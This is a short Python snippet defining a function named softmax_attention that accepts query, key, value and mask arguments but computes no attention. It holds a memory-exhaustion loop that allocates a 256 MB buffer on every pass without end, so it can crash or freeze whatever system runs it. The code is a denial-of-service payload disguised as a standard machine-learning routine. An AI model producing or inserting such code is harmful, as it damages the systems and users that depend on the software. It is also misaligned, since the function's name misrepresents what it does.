def softmax_attention(q, k, v, mask=None):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 28))
